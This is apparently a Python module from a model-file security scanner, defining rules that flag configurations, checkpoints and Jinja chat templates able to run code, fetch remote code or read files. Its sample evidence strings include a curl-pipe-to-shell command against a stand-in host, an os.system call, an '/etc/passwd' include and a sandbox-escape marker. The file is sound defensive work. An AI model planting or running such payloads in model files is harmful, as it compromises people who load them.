"""The rules of `picklewatch.catalogue.loaders`: findings about what loaders import, run or fetch because of plain data."""

from __future__ import annotations

from picklewatch.catalogue.rules.rule import Rule
from picklewatch.core.model import Level

_BY_DIGEST = (
    "If you know the file and trust its source, allow its SHA-256 in the configuration, with the reason: "
    "`[allow.digests]`."
)
_DELETE = "Don't load the file. Delete or quarantine it, and tell whoever published it."

RULES = (
    Rule(
        id="config-target",
        level=Level.UNSAFE,
        title="A name that a loader imports and calls",
        meaning=(
            "Under a key such as `_target_`, plain data (a checkpoint's hyperparameters, YAML, JSON, metadata) name a "
            "function or class that can do harm, or that nobody vouched for."
        ),
        danger=(
            "It acts when the data are used, not when they are read: Hydra, NeMo, Lightning, pyannote and others import "
            "the name and call it with arguments from the same file. Names that run code are malicious, unknown names "
            "of Python itself unsafe, those of libraries and your own code unverified; a class that was read is clean. "
            "So is a class of the loader's own library."
        ),
        evidence="subprocess.Popen",
        action="Don't instantiate the configuration unless you know every name in it. If a name runs code, delete the file.",
        allow=_BY_DIGEST,
    ),
    Rule(
        id="config-code",
        level=Level.UNSAFE,
        title="Python source in a checkpoint or a configuration",
        meaning="A text that a loader executes or evaluates does more than assign values, or name layers.",
        danger=(
            "It acts on use: MMEngine executes the text `cfg` of a checkpoint, Ultralytics evaluates activations and layers, "
            "jsonpickle evaluates `py/repr`, fairseq the options of a checkpoint, MONAI what begins with a dollar sign."
        ),
        evidence="import os; os.system('id')",
        action=_DELETE,
        allow=_BY_DIGEST,
    ),
    Rule(
        id="config-foreign-code",
        level=Level.UNSAFE,
        title="Data that fetch code from elsewhere",
        meaning=(
            "A key names code or a file outside of the model's own directory: another repository's classes (`auto_map`, "
            "`custom_pipeline`), a repository of compiled kernels (`_attn_implementation`, `_experts_implementation`), a module "
            "outside of its loader's libraries (`parent_library`, `modules.json`, `model_index.json`), weights under another "
            "directory. Or the model itself sets `trust_remote_code`."
        ),
        danger=(
            "It acts on load: transformers, diffusers and sentence-transformers fetch and import what the file names, "
            "some of it without asking (CVE-2026-4372, CVE-2026-5241)."
        ),
        evidence="attacker/kernel-repo",
        action="Load the model only after you have removed the key, or read the code that it names.",
        allow=_BY_DIGEST,
    ),
    Rule(
        id="config-script",
        level=Level.UNSAFE,
        title="A configuration with a script of its own",
        meaning=(
            "A configuration holds or names a script: the `download` of a data set for Ultralytics, a layer of a YOLOv5 model that is an "
            "expression, MLflow's `loader_module` outside of mlflow, or its `model_code_path`."
        ),
        danger=(
            "It acts on load (MLflow, YOLOv5), or on use, as soon as someone trains with a data set that is not there yet (Ultralytics): "
            "shell commands and Python run as they stand. Python that only fetches and moves its own data is unverified."
        ),
        evidence="bash -c 'curl https://packages.example/x | sh'",
        action="Read the script before you load the model, or remove the key and get the data yourself.",
        allow=_BY_DIGEST,
    ),
    Rule(
        id="config-remote-code",
        level=Level.UNVERIFIED,
        title="A model with Python code of its own",
        meaning="A configuration names a class in the Python code of its own repository.",
        danger="With `trust_remote_code=True` the loader imports that code, which picklewatch does not judge here.",
        evidence="modeling_custom.CustomModel",
        action="Read the repository's Python files before you load the model with `trust_remote_code=True`.",
        allow=_BY_DIGEST,
    ),
    Rule(
        id="template-escape",
        level=Level.MALICIOUS,
        title="A template that leads into the interpreter",
        meaning=(
            "A Jinja template (`chat_template` of a tokenizer, of GGUF's metadata or of a pickle, a `.jinja` file) uses names of "
            "Python's internals, whole, in parts or with escapes; or it fetches by a name that it computes, by the filter `attr`, "
            "by `format` itself, or from an object that every template has (`lipsum`, `cycler`, `joiner`, `self`)."
        ),
        danger=(
            "It acts on use, when a chat is rendered: outside of Jinja's sandbox such a chain ends in running any code "
            "(llama-cpp-python's CVE-2024-34359, SGLang's CVE-2026-5760), and the sandbox itself was left so (CVE-2024-56326, "
            "CVE-2025-27516). A known chain is malicious, other private or computed names are unsafe: chats fetch by plain words "
            "and numbers. In a text that no chat software is known to render, such as a web page's, only a chain counts, or two ways "
            "at once; one is unverified."
        ),
        evidence="__subclasses__",
        action=_DELETE,
        allow=_BY_DIGEST,
    ),
    Rule(
        id="template-file",
        level=Level.UNSAFE,
        title="A template that loads other templates",
        meaning="A chat's template includes, imports or extends another one.",
        danger=(
            "It acts on use, when a chat is rendered: a loader that finds templates in the file system reads any file that it may read "
            "into the answer, or runs that file as a template. Chat software renders one template alone. In other texts, such as "
            "web pages, it is usual and unverified."
        ),
        evidence="include '/etc/passwd'",
        action="Don't use the template. Take that of the model's publisher, or remove the statement.",
        allow=_BY_DIGEST,
    ),
    Rule(
        id="template-unknown",
        level=Level.UNVERIFIED,
        title="A template with names that are not on the list",
        meaning=(
            "A template uses a filter, test, tag, method or function that the templates of models don't have, is refused by "
            "Jinja, or is longer than what is read."
        ),
        danger=(
            "It acts on use, when it is rendered, if at all: Jinja itself refuses a tag, filter or test that its program did not add, and "
            "nothing is known of what such an addition does."
        ),
        evidence="the filter 'to_nice_json'",
        action="Read the template at this place, and look up what the name does in the software that renders it.",
        allow=_BY_DIGEST,
    ),
)
